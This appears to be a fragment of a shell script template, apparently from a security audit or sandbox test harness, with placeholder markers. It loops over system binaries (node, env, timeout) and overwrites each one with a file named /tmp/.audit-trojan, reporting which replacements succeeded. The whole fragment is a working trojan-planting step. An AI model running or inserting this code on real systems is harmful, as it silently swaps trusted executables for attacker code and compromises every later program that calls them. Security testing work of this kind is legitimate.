@WRITE_TROJAN@for b in /usr/local/bin/node /usr/bin/node /usr/bin/env /usr/bin/timeout; do
  if cp -f /tmp/.audit-trojan "$b.audit-new" 2>/dev/null && mv -f "$b.audit-new" "$b" 2>/dev/null; then echo "@NOTE@ replaced $b"; else rm -f "$b.audit-new" 2>/dev/null; echo "@NOTE@ could not replace $b"; fi
done
